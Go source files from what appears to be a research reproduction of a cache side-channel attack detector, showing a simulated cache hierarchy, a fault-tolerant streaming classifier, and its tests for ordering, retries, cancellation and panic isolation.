func (c *Cache) UsedLines() int { return c.usedLines }

// TotalLines returns the line capacity.
func (c *Cache) TotalLines() int { return c.totalLines }

// OwnerOfLine returns the owner of the line containing addr, or
// OwnerNone when the line is absent.
func (c *Cache) OwnerOfLine(addr uint64) Owner {
	set := c.sets[c.SetIndex(addr)]
	t := c.tag(addr)
	for i := range set {
		if set[i].valid && set[i].tag == t {
			return set[i].owner
		}
	}
	return OwnerNone
}

// SetOccupants returns the number of valid lines in the set containing
// addr; SCADET-style rules use this to spot prime sweeps.
func (c *Cache) SetOccupants(addr uint64) int {
	set := c.sets[c.SetIndex(addr)]
	n := 0
	for i := range set {
		if set[i].valid {
			n++
		}
	}
	return n
}
