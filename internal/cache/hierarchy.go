package cache

import "fmt"

// Latencies gives the access cost in virtual cycles for each level of
// the hierarchy. The gap between L1Hit and Memory is what makes the
// reload/probe timing measurements of CSCAs work in simulation.
type Latencies struct {
	L1Hit  uint64
	LLCHit uint64
	Memory uint64
	Flush  uint64 // clflush of a cached line; an uncached flush costs FlushMiss
	// FlushMiss is the (shorter) cost of flushing a line that is not
	// cached — the timing difference Flush+Flush measures.
	FlushMiss uint64
}

// DefaultLatencies roughly matches the latency ratios of a modern Intel
// part (L1 ~4 cycles, LLC ~40, DRAM ~200).
func DefaultLatencies() Latencies {
	return Latencies{L1Hit: 4, LLCHit: 40, Memory: 200, Flush: 130, FlushMiss: 90}
}

// HierarchyConfig configures a two-level hierarchy with split L1.
type HierarchyConfig struct {
	L1D Config
	L1I Config
	LLC Config // inclusive of both L1s
	Lat Latencies
}

// DefaultHierarchyConfig returns the configuration used across the
// reproduction: 4 KiB 8-way L1D/L1I and a 128 KiB 8-way inclusive LLC
// with 64-byte lines. The caches are deliberately smaller than real
// hardware so that eviction-set construction (Prime+Probe, Evict+Reload)
// stays cheap while preserving set-index arithmetic.
func DefaultHierarchyConfig() HierarchyConfig {
	return HierarchyConfig{
		L1D: Config{Name: "L1D", Sets: 8, Ways: 8, LineSize: 64, Policy: LRU},
		L1I: Config{Name: "L1I", Sets: 8, Ways: 8, LineSize: 64, Policy: LRU},
		LLC: Config{Name: "LLC", Sets: 256, Ways: 8, LineSize: 64, Policy: LRU},
		Lat: DefaultLatencies(),
	}
}

// AccessKind distinguishes data loads, data stores and instruction
// fetches in the hierarchy.
type AccessKind uint8

// Access kinds.
const (
	Load AccessKind = iota
	Store
	Fetch
)

// String names the access kind.
func (k AccessKind) String() string {
	switch k {
	case Load:
		return "load"
	case Store:
		return "store"
	case Fetch:
		return "fetch"
	}
	return fmt.Sprintf("kind(%d)", uint8(k))
}

// AccessResult reports what one access did at each level; the execution
// engine converts this into HPC events and latency.
type AccessResult struct {
	Kind    AccessKind
	L1Hit   bool
	LLCHit  bool // meaningful only when !L1Hit
	Latency uint64
}

// Hierarchy is the shared two-level cache of the simulated machine.
type Hierarchy struct {
	l1d *Cache
	l1i *Cache
	llc *Cache
	lat Latencies
}

// NewHierarchy builds the hierarchy; all three configs must be valid.
func NewHierarchy(cfg HierarchyConfig) (*Hierarchy, error) {
	l1d, err := New(cfg.L1D)
	if err != nil {
		return nil, err
	}
	l1i, err := New(cfg.L1I)
	if err != nil {
		return nil, err
	}
	llc, err := New(cfg.LLC)
	if err != nil {
		return nil, err
	}
	if cfg.LLC.LineSize != cfg.L1D.LineSize || cfg.LLC.LineSize != cfg.L1I.LineSize {
		return nil, fmt.Errorf("hierarchy: all levels must share a line size")
	}
	return &Hierarchy{l1d: l1d, l1i: l1i, llc: llc, lat: cfg.Lat}, nil
}

// MustNewHierarchy panics on configuration errors.
func MustNewHierarchy(cfg HierarchyConfig) *Hierarchy {
	h, err := NewHierarchy(cfg)
	if err != nil {
		panic(err)
	}
	return h
}

// DefaultHierarchy builds the hierarchy of DefaultHierarchyConfig.
func DefaultHierarchy() *Hierarchy { return MustNewHierarchy(DefaultHierarchyConfig()) }

// L1D returns the level-1 data cache.
func (h *Hierarchy) L1D() *Cache { return h.l1d }

// L1I returns the level-1 instruction cache.
func (h *Hierarchy) L1I() *Cache { return h.l1i }

// LLC returns the last-level cache.
func (h *Hierarchy) LLC() *Cache { return h.llc }

// Latencies returns the latency model.
func (h *Hierarchy) Latencies() Latencies { return h.lat }

// Access runs one access through the hierarchy, maintaining inclusion:
// an LLC eviction back-invalidates the corresponding L1 line.
func (h *Hierarchy) Access(addr uint64, kind AccessKind, owner Owner) AccessResult {
	l1 := h.l1d
	if kind == Fetch {
		l1 = h.l1i
	}
	res := AccessResult{Kind: kind}
	if hit, _ := l1.Access(addr, owner); hit {
		res.L1Hit = true
		res.Latency = h.lat.L1Hit
		// Keep the LLC recency state warm for inclusive behaviour.
		h.llc.Access(addr, owner)
		return res
	}
	llcHit, evicted := h.llc.Access(addr, owner)
	res.LLCHit = llcHit
	if llcHit {
		res.Latency = h.lat.LLCHit
	} else {
		res.Latency = h.lat.Memory
	}
	if evicted != nil {
		// Inclusion: the displaced LLC line leaves the L1s too.
		h.l1d.Flush(evicted.Addr)
		h.l1i.Flush(evicted.Addr)
	}
	return res
}

// Flush evicts the line containing addr from every level, returning the
// clflush latency (longer when the line was actually cached, which is
// the signal Flush+Flush measures) and whether any level held the line.
func (h *Hierarchy) Flush(addr uint64) (latency uint64, wasCached bool) {
	c1 := h.l1d.Flush(addr)
	c2 := h.l1i.Flush(addr)
	c3 := h.llc.Flush(addr)
	if c1 || c2 || c3 {
		return h.lat.Flush, true
	}
	return h.lat.FlushMiss, false
}

// Cached reports whether addr is present at any level (no state change).
func (h *Hierarchy) Cached(addr uint64) bool {
	return h.l1d.Lookup(addr) || h.l1i.Lookup(addr) || h.llc.Lookup(addr)
}

// InvalidateAll empties every level.
func (h *Hierarchy) InvalidateAll() {
	h.l1d.InvalidateAll()
	h.l1i.InvalidateAll()
	h.llc.InvalidateAll()
}

// FillAll fills every level with owner-tagged lines.
func (h *Hierarchy) FillAll(owner Owner) {
	h.l1d.FillAll(owner)
	h.l1i.FillAll(owner)
	h.llc.FillAll(owner)
}

// LLCSetIndex maps an address to its LLC set; the unit the paper's
// cache-set overlap analysis and SCADET's rules reason about.
func (h *Hierarchy) LLCSetIndex(addr uint64) int { return h.llc.SetIndex(addr) }

// Occupancy returns the LLC cache state with the given attacker owner.
// The LLC is the level CSCAs contend on across processes, so occupancy is
// measured there.
func (h *Hierarchy) Occupancy(attacker Owner) State { return h.llc.Occupancy(attacker) }
