package stream

// The streaming pipeline inherits the detector's verdict result cache
// (detect.Detector.ResultCache) for free: its scan stage goes through
// ClassifyBBSCtx, which sits behind the cached scanner. These tests pin
// that down — a stream of repeated targets costs one repository scan,
// and verdicts stay identical to the uncached stream.

import (
	"context"
	"fmt"
	"reflect"
	"testing"

	"repro/internal/telemetry"
)

// TestStreamRepeatedTargetsHitVerdictCache: streaming the same model
// N times with the result cache on scans the repository once; every
// result carries the same verdict the uncached detector produces.
func TestStreamRepeatedTargetsHitVerdictCache(t *testing.T) {
	const n = 6
	_, _, bbs := fixtures(t)
	want := newDetector(t).ClassifyBBS(bbs)

	d := newDetector(t)
	d.ResultCache = 8
	in := make(chan Target, n)
	for i := 0; i < n; i++ {
		in <- Target{ID: fmt.Sprintf("rep-%d", i), BBS: bbs}
	}
	close(in)
	results := drain(Classify(context.Background(), d, in, Config{ModelWorkers: 2}))
	if len(results) != n {
		t.Fatalf("results = %d, want %d", len(results), n)
	}
	for _, r := range results {
		if r.Err != nil {
			t.Fatalf("%s: %v", r.ID, r.Err)
		}
		if !reflect.DeepEqual(r.Verdict, want) {
			t.Fatalf("%s: cached stream verdict diverged:\n got %+v\nwant %+v", r.ID, r.Verdict, want)
		}
	}
	tel := d.Telemetry
	if scans := tel.Counter(telemetry.ScanTargets); scans != 1 {
		t.Errorf("scan_targets = %d for %d identical stream targets, want 1", scans, n)
	}
	served := tel.Counter(telemetry.VCacheHits) + tel.Counter(telemetry.VCacheCollapsed)
	if served != n-1 {
		t.Errorf("hits+collapsed = %d, want %d", served, n-1)
	}
}
