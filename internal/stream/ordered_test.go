package stream

import (
	"context"
	"errors"
	"fmt"
	"runtime"
	"sync/atomic"
	"testing"
	"time"

	"repro/internal/faultinject"
	"repro/internal/retry"
	"repro/internal/telemetry"
)

// TestStreamOrderedEmission: with Ordered set, results come out in
// arrival order even when the first target resolves last. The head
// target is a real program (modeling work) slowed further by a fault-
// injected stall, while the rest are pre-built and would normally
// overtake it.
func TestStreamOrderedEmission(t *testing.T) {
	t.Cleanup(faultinject.Reset)
	d := newDetector(t)
	_, poc, bbs := fixtures(t)
	want := d.ClassifyBBS(bbs)
	faultinject.Enable(faultinject.StreamModel,
		faultinject.Match("t00", faultinject.Sleep(100*time.Millisecond)))

	before := runtime.NumGoroutine()
	const n = 8
	in := make(chan Target, n)
	in <- Target{ID: "t00", Program: poc.Program, Victim: poc.Victim}
	for i := 1; i < n; i++ {
		in <- Target{ID: fmt.Sprintf("t%02d", i), BBS: bbs}
	}
	close(in)
	results := drain(Classify(context.Background(), d, in, Config{Ordered: true, ModelWorkers: 4}))
	checkNoLeak(t, before)

	if len(results) != n {
		t.Fatalf("results = %d, want %d", len(results), n)
	}
	for i, r := range results {
		if r.Seq != i {
			t.Fatalf("emission %d carries seq %d — not in arrival order: %+v", i, r.Seq, results)
		}
		if r.Err != nil {
			t.Fatalf("%s: %v", r.ID, r.Err)
		}
		if i > 0 && (r.Verdict.Predicted != want.Predicted || r.Verdict.Best.Name != want.Best.Name) {
			t.Errorf("%s verdict %+v, want %+v", r.ID, r.Verdict.Best, want.Best)
		}
	}
}

// TestStreamOrderedBoundedAdmission: the reorder buffer must not grow
// without bound while the emission head is stuck — intake stops
// admitting once ModelWorkers + 2·Queue + 2 targets are unemitted, and
// backpressure reaches the producer.
func TestStreamOrderedBoundedAdmission(t *testing.T) {
	t.Cleanup(faultinject.Reset)
	d := newDetector(t)
	_, _, bbs := fixtures(t)
	faultinject.Enable(faultinject.StreamScan,
		faultinject.Match("t000", faultinject.Sleep(400*time.Millisecond)))

	cfg := Config{Ordered: true, ModelWorkers: 1, Queue: 1} // window = 1 + 2 + 2 = 5
	const window = 5
	var sent atomic.Int64
	in := make(chan Target) // unbuffered: every accepted send was admitted
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	go func() {
		defer close(in)
		for i := 0; i < 40; i++ {
			select {
			case in <- Target{ID: fmt.Sprintf("t%03d", i), BBS: bbs}:
				sent.Add(1)
			case <-ctx.Done():
				return
			}
		}
	}()
	out := Classify(ctx, d, in, cfg)

	// While the head target's scan is stalled nothing can be emitted,
	// so admissions must flatline at the window (plus the one send
	// blocked in the unbuffered channel).
	time.Sleep(200 * time.Millisecond)
	if got := sent.Load(); got > window+1 {
		t.Fatalf("intake admitted %d targets while emission was blocked, want <= %d", got, window+1)
	}
	results := drain(out)
	if len(results) != 40 {
		t.Fatalf("results = %d, want 40", len(results))
	}
	for i, r := range results {
		if r.Seq != i {
			t.Fatalf("emission %d carries seq %d", i, r.Seq)
		}
	}
}

// TestStreamOrderedCancellation: cancelling mid-stream still emits
// every accepted target, in order and without gaps, then closes the
// channel with no goroutines (or admission tokens) left behind.
func TestStreamOrderedCancellation(t *testing.T) {
	t.Cleanup(faultinject.Reset)
	d := newDetector(t)
	_, _, bbs := fixtures(t)
	faultinject.Enable(faultinject.StreamScan, faultinject.Sleep(10*time.Millisecond))

	before := runtime.NumGoroutine()
	ctx, cancel := context.WithCancel(context.Background())
	in := make(chan Target)
	go func() {
		defer close(in)
		for i := 0; ; i++ {
			select {
			case in <- Target{ID: fmt.Sprintf("t%03d", i), BBS: bbs}:
			case <-ctx.Done():
				return
			}
		}
	}()
	out := Classify(ctx, d, in, Config{Ordered: true, ModelWorkers: 2})
	first := <-out
	if first.Seq != 0 {
		t.Fatalf("first emission has seq %d", first.Seq)
	}
	cancel()
	rest := drain(out)
	checkNoLeak(t, before)
	for i, r := range rest {
		if r.Seq != i+1 {
			t.Fatalf("post-cancel emission %d carries seq %d — ordered flush broke", i, r.Seq)
		}
	}
}

// TestStreamRetriesAbsorbTransientFaults: a fault that hits a target's
// scan once is retried away under Config.Retries — the target still
// verdicts, the retry is counted, and no error result is emitted. A
// permanently failing target exhausts its attempts and resolves to an
// error with every retry counted.
func TestStreamRetriesAbsorbTransientFaults(t *testing.T) {
	t.Cleanup(faultinject.Reset)
	d := newDetector(t)
	_, _, bbs := fixtures(t)
	want := d.ClassifyBBS(bbs)

	var flaky atomic.Int64
	faultinject.Enable(faultinject.StreamScan, func(p faultinject.Point, detail string) error {
		if detail == "flaky" && flaky.Add(1) == 1 {
			return errors.New("transient scan blip")
		}
		if detail == "doomed" {
			return errors.New("permanent failure")
		}
		return nil
	})

	in := make(chan Target, 3)
	in <- Target{ID: "flaky", BBS: bbs}
	in <- Target{ID: "doomed", BBS: bbs}
	in <- Target{ID: "clean", BBS: bbs}
	close(in)
	results := drain(Classify(context.Background(), d, in, Config{Retries: retry.Policy{Attempts: 2}}))

	byID := make(map[string]Result)
	for _, r := range results {
		byID[r.ID] = r
	}
	if r := byID["flaky"]; r.Err != nil || r.Verdict.Best.Name != want.Best.Name {
		t.Errorf("flaky = %+v, want clean verdict after retry", r)
	}
	if r := byID["clean"]; r.Err != nil {
		t.Errorf("clean target failed: %v", r.Err)
	}
	if r := byID["doomed"]; r.Err == nil {
		t.Error("doomed target produced a verdict despite a permanent fault")
	}
	// flaky: 1 retry; doomed: 2 retries (attempts exhausted).
	if got := d.Telemetry.Counter(telemetry.StreamRetries); got != 3 {
		t.Errorf("stream_retries = %d, want 3", got)
	}
	if got := d.Telemetry.Counter(telemetry.StreamErrorResults); got != 1 {
		t.Errorf("stream_error_results = %d, want 1", got)
	}
}

// TestStreamRetriesModelStage: the retry hook also covers the modeling
// stage (same policy, same counter).
func TestStreamRetriesModelStage(t *testing.T) {
	t.Cleanup(faultinject.Reset)
	d := newDetector(t)
	_, poc, _ := fixtures(t)
	var calls atomic.Int64
	faultinject.Enable(faultinject.StreamModel, func(p faultinject.Point, detail string) error {
		if calls.Add(1) == 1 {
			return errors.New("transient model blip")
		}
		return nil
	})
	in := make(chan Target, 1)
	in <- Target{ID: "m", Program: poc.Program, Victim: poc.Victim}
	close(in)
	results := drain(Classify(context.Background(), d, in, Config{Retries: retry.Policy{Attempts: 1}}))
	if len(results) != 1 || results[0].Err != nil {
		t.Fatalf("results = %+v, want one clean verdict", results)
	}
	if results[0].Model == nil {
		t.Error("retried target lost its model")
	}
	if got := d.Telemetry.Counter(telemetry.StreamRetries); got != 1 {
		t.Errorf("stream_retries = %d, want 1", got)
	}
}
