package stream

import (
	"context"
	"errors"
	"fmt"
	"runtime"
	"testing"
	"time"

	"repro/internal/attacks"
	"repro/internal/detect"
	"repro/internal/faultinject"
	"repro/internal/model"
	"repro/internal/panicsafe"
	"repro/internal/telemetry"
)

// The fixtures run the simulator, so they are built once and shared.
var (
	sharedRepo *detect.Repository
	sharedPoC  attacks.PoC
	sharedBBS  *model.CSTBBS
)

func fixtures(t *testing.T) (*detect.Repository, attacks.PoC, *model.CSTBBS) {
	t.Helper()
	if sharedRepo != nil {
		return sharedRepo, sharedPoC, sharedBBS
	}
	p := attacks.DefaultParams()
	pocs := []attacks.PoC{
		attacks.FlushReloadIAIK(p),
		attacks.PrimeProbeIAIK(p),
		attacks.SpectreFRIdea(p),
		attacks.SpectrePPTrippel(p),
	}
	r, err := detect.BuildRepository(pocs, model.DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	poc := attacks.FlushReloadMastik(p)
	m, err := model.Build(poc.Program, poc.Victim, model.DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	sharedRepo, sharedPoC, sharedBBS = r, poc, m.BBS
	return sharedRepo, sharedPoC, sharedBBS
}

func newDetector(t *testing.T) *detect.Detector {
	t.Helper()
	r, _, _ := fixtures(t)
	d := detect.NewDetector(r)
	d.Telemetry = telemetry.NewCollector()
	return d
}

// checkNoLeak asserts the goroutine count returns to its before level
// (exiting goroutines need a moment to unwind).
func checkNoLeak(t *testing.T, before int) {
	t.Helper()
	deadline := time.Now().Add(2 * time.Second)
	for {
		if n := runtime.NumGoroutine(); n <= before {
			return
		}
		if time.Now().After(deadline) {
			buf := make([]byte, 1<<16)
			n := runtime.Stack(buf, true)
			t.Fatalf("goroutines leaked: %d before, %d after\n%s",
				before, runtime.NumGoroutine(), buf[:n])
		}
		time.Sleep(5 * time.Millisecond)
	}
}

func drain(out <-chan Result) []Result {
	var rs []Result
	for r := range out {
		rs = append(rs, r)
	}
	return rs
}

func TestStreamMatchesDirectClassification(t *testing.T) {
	d := newDetector(t)
	_, poc, bbs := fixtures(t)
	want := d.ClassifyBBS(bbs)
	wantProg, _, err := d.Classify(poc.Program, poc.Victim)
	if err != nil {
		t.Fatal(err)
	}

	before := runtime.NumGoroutine()
	in := make(chan Target, 4)
	in <- Target{ID: "prog", Program: poc.Program, Victim: poc.Victim}
	in <- Target{ID: "prebuilt", BBS: bbs}
	in <- Target{BBS: bbs} // unnamed: falls back to the model name
	close(in)
	results := drain(Classify(context.Background(), d, in, Config{}))
	checkNoLeak(t, before)

	if len(results) != 3 {
		t.Fatalf("results = %d, want 3", len(results))
	}
	byID := make(map[string]Result)
	seqs := make(map[int]bool)
	for _, r := range results {
		if r.Err != nil {
			t.Fatalf("%s: unexpected error %v", r.ID, r.Err)
		}
		byID[r.ID] = r
		if seqs[r.Seq] {
			t.Fatalf("duplicate seq %d", r.Seq)
		}
		seqs[r.Seq] = true
	}
	if byID["prebuilt"].Verdict.Predicted != want.Predicted ||
		byID["prebuilt"].Verdict.Best.Name != want.Best.Name {
		t.Errorf("prebuilt verdict %+v, want %+v", byID["prebuilt"].Verdict.Best, want.Best)
	}
	if byID["prog"].Verdict.Predicted != wantProg.Predicted ||
		byID["prog"].Verdict.Best.Name != wantProg.Best.Name {
		t.Errorf("prog verdict %+v, want %+v", byID["prog"].Verdict.Best, wantProg.Best)
	}
	if byID["prog"].Model == nil {
		t.Error("prog result missing built model")
	}
	if _, ok := byID[bbs.Name]; !ok {
		t.Errorf("unnamed target did not fall back to model name %q", bbs.Name)
	}
	if got := d.Telemetry.Counter(telemetry.StreamTargets); got != 3 {
		t.Errorf("stream_targets = %d, want 3", got)
	}
}

// TestStreamPanicIsolation is the headline robustness property: a
// fault-injected panic in one target of a 16-target stream yields an
// error result for that target, correct verdicts for the other 15, and
// no goroutine leak.
func TestStreamPanicIsolation(t *testing.T) {
	t.Cleanup(faultinject.Reset)
	d := newDetector(t)
	_, _, bbs := fixtures(t)
	want := d.ClassifyBBS(bbs)

	faultinject.Enable(faultinject.StreamModel, faultinject.Match("t07", faultinject.Panic("injected model panic")))

	before := runtime.NumGoroutine()
	in := make(chan Target, 16)
	for i := 0; i < 16; i++ {
		id := fmt.Sprintf("t%02d", i)
		if i == 7 {
			// The faulty target takes the modeling path, where the
			// failpoint panics.
			_, poc, _ := fixtures(t)
			in <- Target{ID: id, Program: poc.Program, Victim: poc.Victim}
			continue
		}
		in <- Target{ID: id, BBS: bbs}
	}
	close(in)
	results := drain(Classify(context.Background(), d, in, Config{ModelWorkers: 4, Queue: 2}))
	checkNoLeak(t, before)

	if len(results) != 16 {
		t.Fatalf("results = %d, want 16", len(results))
	}
	var failed int
	for _, r := range results {
		if r.ID == "t07" {
			failed++
			pe, ok := panicsafe.AsPanic(r.Err)
			if !ok {
				t.Fatalf("t07: err = %v, want *PanicError", r.Err)
			}
			if pe.Value != "injected model panic" {
				t.Errorf("t07 panic value = %v", pe.Value)
			}
			continue
		}
		if r.Err != nil {
			t.Errorf("%s: collateral error %v", r.ID, r.Err)
			continue
		}
		if r.Verdict.Predicted != want.Predicted || r.Verdict.Best.Name != want.Best.Name {
			t.Errorf("%s: verdict %s/%s, want %s/%s", r.ID,
				r.Verdict.Predicted, r.Verdict.Best.Name, want.Predicted, want.Best.Name)
		}
	}
	if failed != 1 {
		t.Fatalf("error results = %d, want exactly 1", failed)
	}
	if got := d.Telemetry.Counter(telemetry.PanicsRecovered); got != 1 {
		t.Errorf("panics_recovered = %d, want 1", got)
	}
	if got := d.Telemetry.Counter(telemetry.StreamErrorResults); got != 1 {
		t.Errorf("stream_error_results = %d, want 1", got)
	}
}

// TestStreamScanPanicIsolation injects the panic below the scan stage
// instead of the modeling stage.
func TestStreamScanPanicIsolation(t *testing.T) {
	t.Cleanup(faultinject.Reset)
	d := newDetector(t)
	_, _, bbs := fixtures(t)

	faultinject.Enable(faultinject.StreamScan, faultinject.Match("bad", faultinject.Panic("injected scan panic")))

	before := runtime.NumGoroutine()
	in := make(chan Target, 4)
	in <- Target{ID: "ok-1", BBS: bbs}
	in <- Target{ID: "bad", BBS: bbs}
	in <- Target{ID: "ok-2", BBS: bbs}
	close(in)
	results := drain(Classify(context.Background(), d, in, Config{}))
	checkNoLeak(t, before)

	if len(results) != 3 {
		t.Fatalf("results = %d, want 3", len(results))
	}
	for _, r := range results {
		if r.ID == "bad" {
			if _, ok := panicsafe.AsPanic(r.Err); !ok {
				t.Fatalf("bad: err = %v, want *PanicError", r.Err)
			}
			continue
		}
		if r.Err != nil {
			t.Errorf("%s: collateral error %v", r.ID, r.Err)
		}
	}
}

// TestStreamInjectedCSTError drives the "error in CST measurement"
// failpoint through the stream: an ordinary error (not a panic) in one
// target's modeling isolates the same way.
func TestStreamInjectedCSTError(t *testing.T) {
	t.Cleanup(faultinject.Reset)
	d := newDetector(t)
	_, poc, bbs := fixtures(t)

	sentinel := errors.New("cst measurement failed")
	faultinject.Enable(faultinject.ModelCST, faultinject.Match(poc.Program.Name, faultinject.Error(sentinel)))

	in := make(chan Target, 3)
	in <- Target{ID: "faulty", Program: poc.Program, Victim: poc.Victim}
	in <- Target{ID: "fine", BBS: bbs}
	close(in)
	results := drain(Classify(context.Background(), d, in, Config{}))

	if len(results) != 2 {
		t.Fatalf("results = %d, want 2", len(results))
	}
	for _, r := range results {
		switch r.ID {
		case "faulty":
			if !errors.Is(r.Err, sentinel) {
				t.Errorf("faulty: err = %v, want %v", r.Err, sentinel)
			}
			if _, ok := panicsafe.AsPanic(r.Err); ok {
				t.Errorf("faulty: plain error misreported as panic")
			}
		case "fine":
			if r.Err != nil {
				t.Errorf("fine: %v", r.Err)
			}
		}
	}
	if got := d.Telemetry.Counter(telemetry.PanicsRecovered); got != 0 {
		t.Errorf("panics_recovered = %d, want 0 (no panic occurred)", got)
	}
}

// TestStreamCancellation cancels mid-stream with a slow scan worker
// injected and asserts prompt shutdown, error results for accepted
// in-flight targets, an unconsumed input remainder, and no leak.
func TestStreamCancellation(t *testing.T) {
	t.Cleanup(faultinject.Reset)
	d := newDetector(t)
	_, _, bbs := fixtures(t)

	faultinject.Enable(faultinject.ScanWorker, faultinject.Sleep(2*time.Millisecond))

	before := runtime.NumGoroutine()
	ctx, cancel := context.WithCancel(context.Background())
	const total = 64
	in := make(chan Target, total)
	for i := 0; i < total; i++ {
		in <- Target{ID: fmt.Sprintf("t%02d", i), BBS: bbs}
	}
	close(in)

	out := Classify(ctx, d, in, Config{ModelWorkers: 2, Queue: 2})
	first := <-out
	if first.Err != nil {
		t.Fatalf("first result errored before cancel: %v", first.Err)
	}
	cancel()
	start := time.Now()
	rest := drain(out)
	elapsed := time.Since(start)
	checkNoLeak(t, before)

	// Prompt: the only residual work after cancel is the in-flight
	// items (bounded by workers+queues), each aborting at its next
	// ctx check.
	if elapsed > time.Second {
		t.Errorf("drain after cancel took %v", elapsed)
	}
	if got := len(rest) + 1; got == total {
		t.Errorf("all %d targets resolved; cancellation consumed the whole input", total)
	}
	if len(in) == 0 {
		t.Error("input fully drained after cancel")
	}
	var ctxErrs int
	for _, r := range rest {
		if r.Err != nil {
			if !errors.Is(r.Err, context.Canceled) {
				t.Errorf("%s: err = %v, want context.Canceled in chain", r.ID, r.Err)
			}
			ctxErrs++
		}
	}
	if ctxErrs == 0 {
		t.Error("no in-flight target resolved to a cancellation error")
	}
}

// TestStreamBackpressure verifies the bounded-queue contract: with the
// consumer stalled, the pipeline stops consuming input once its
// internal capacity (ModelWorkers + 2·Queue + 2) is full.
func TestStreamBackpressure(t *testing.T) {
	d := newDetector(t)
	_, _, bbs := fixtures(t)

	cfg := Config{ModelWorkers: 1, Queue: 1}
	bound := cfg.ModelWorkers + 2*cfg.Queue + 2
	const total = 32
	in := make(chan Target, total)
	for i := 0; i < total; i++ {
		in <- Target{ID: fmt.Sprintf("t%02d", i), BBS: bbs}
	}
	close(in)

	out := Classify(context.Background(), d, in, cfg)
	// Let the pipeline run until it saturates against the unread out.
	deadline := time.Now().Add(time.Second)
	for time.Now().Before(deadline) && total-len(in) < bound {
		time.Sleep(5 * time.Millisecond)
	}
	time.Sleep(50 * time.Millisecond) // would overconsume if unbounded
	if consumed := total - len(in); consumed > bound {
		t.Errorf("consumed %d targets with stalled consumer, bound %d", consumed, bound)
	}
	// Release the consumer; everything must still resolve exactly once.
	results := drain(out)
	if len(results) != total {
		t.Fatalf("results = %d, want %d", len(results), total)
	}
}

// TestStreamTargetTimeout gives every target an impossible deadline.
func TestStreamTargetTimeout(t *testing.T) {
	d := newDetector(t)
	_, poc, _ := fixtures(t)

	in := make(chan Target, 2)
	in <- Target{ID: "a", Program: poc.Program, Victim: poc.Victim}
	in <- Target{ID: "b", Program: poc.Program, Victim: poc.Victim}
	close(in)
	results := drain(Classify(context.Background(), d, in, Config{TargetTimeout: time.Nanosecond}))

	if len(results) != 2 {
		t.Fatalf("results = %d, want 2", len(results))
	}
	for _, r := range results {
		if !errors.Is(r.Err, context.DeadlineExceeded) {
			t.Errorf("%s: err = %v, want DeadlineExceeded", r.ID, r.Err)
		}
	}
	if got := d.Telemetry.Counter(telemetry.StreamErrorResults); got != 2 {
		t.Errorf("stream_error_results = %d, want 2", got)
	}
}

func TestStreamEmptyInput(t *testing.T) {
	d := newDetector(t)
	before := runtime.NumGoroutine()
	in := make(chan Target)
	close(in)
	if results := drain(Classify(context.Background(), d, in, Config{})); len(results) != 0 {
		t.Fatalf("results = %d, want 0", len(results))
	}
	checkNoLeak(t, before)
}
