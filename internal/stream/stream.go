// Package stream is the fault-tolerant streaming front end of
// classification: the always-on deployment shape the paper's monitor
// setting implies, where targets arrive continuously and SCAGuard must
// keep emitting verdicts even when an individual target misbehaves.
//
// Classify accepts targets on an input channel and emits one Result per
// target on the output channel as each resolves. Internally the
// pipeline has two stages connected by a bounded queue:
//
//	in ──▶ intake ──▶ modeling workers ──▶ bounded queue ──▶ scan stage ──▶ [reorder] ──▶ out
//	      (sequence)  (N× model.BuildCtx)                  (repository scan)  (Ordered)
//
// Modeling — the dominant per-target cost — fans out across
// Config.ModelWorkers goroutines and overlaps with scanning, which
// walks the shared repository engine one target at a time (each scan
// itself fans out across the engine's worker pool). The queue and the
// output channel are bounded, so a slow consumer exerts backpressure
// all the way to the input: scanning blocks, then modeling blocks, then
// the input channel stops being drained. Nothing buffers without bound;
// in-flight targets never exceed ModelWorkers + 2·Queue + 2 — a bound
// Config.Ordered turns into an explicit admission window so its reorder
// buffer stays finite too. Config.Retries re-runs a target's modeling
// or scan after transient failures before the target resolves to an
// error result.
//
// Fault isolation is per target: a panic or error anywhere in one
// target's modeling or scanning becomes a Result with Err set (panics
// as *panicsafe.PanicError, counted under telemetry panics_recovered)
// while every other target completes normally. Cancelling the context
// stops the pipeline promptly: the input stops being consumed, targets
// already accepted resolve to error results carrying the context's
// error, the output channel closes, and no goroutines are left behind —
// the isolation and leak-freedom properties are enforced by the
// fault-injection tests in this package (docs/ROBUSTNESS.md).
package stream

import (
	"context"
	"fmt"
	"runtime"
	"sync"
	"time"

	"repro/internal/detect"
	"repro/internal/faultinject"
	"repro/internal/isa"
	"repro/internal/model"
	"repro/internal/panicsafe"
	"repro/internal/retry"
	"repro/internal/telemetry"
)

// Target is one unit of streaming work: a program to classify
// (optionally alongside its victim), or a pre-built behavior model when
// the caller already ran the modeling stage (BBS set, Program ignored).
type Target struct {
	// ID names the target in results and fault-injection details; it
	// defaults to the program/model name when empty.
	ID      string
	Program *isa.Program
	Victim  *isa.Program
	// BBS, when non-nil, skips the modeling stage.
	BBS *model.CSTBBS
}

func (t Target) id() string {
	switch {
	case t.ID != "":
		return t.ID
	case t.BBS != nil:
		return t.BBS.Name
	case t.Program != nil:
		return t.Program.Name
	}
	return "<unnamed>"
}

// Result is one resolved target. By default results are emitted as
// they resolve, not in arrival order; Seq is the arrival index for
// callers that need to reorder, and Config.Ordered makes the pipeline
// do it for them.
type Result struct {
	// ID echoes the target's identity, Seq its arrival index (0-based).
	ID  string
	Seq int
	// Verdict is the classification outcome; meaningless when Err is
	// set.
	Verdict detect.Result
	// Model is the built behavior model (nil for pre-built targets and
	// for targets that failed before modeling finished).
	Model *model.Model
	// Err is the target's failure: a modeling error, a recovered panic
	// (*panicsafe.PanicError in the chain), an injected fault, or the
	// context's error for targets accepted but unresolved when the
	// stream was cancelled. One target's Err never affects the others.
	Err error
}

// Config tunes the streaming pipeline. The zero value is ready for use.
type Config struct {
	// ModelWorkers is the number of concurrent modeling goroutines;
	// <= 0 selects GOMAXPROCS.
	ModelWorkers int
	// Queue bounds the modeled-but-not-scanned queue and the output
	// channel (per-channel capacity); <= 0 selects ModelWorkers. This
	// is the backpressure knob.
	Queue int
	// TargetTimeout, when positive, is the per-target deadline measured
	// from intake; a target that exceeds it across modeling and
	// scanning resolves to an error result with
	// context.DeadlineExceeded. It composes with the detector's own
	// per-classification Timeout (the earlier deadline wins).
	TargetTimeout time.Duration
	// Ordered emits results in arrival (Seq) order instead of
	// resolution order. The reorder buffer is bounded: intake admits at
	// most ModelWorkers + 2·Queue + 2 unemitted targets, so one slow
	// target stalls emission (head-of-line blocking, the price of
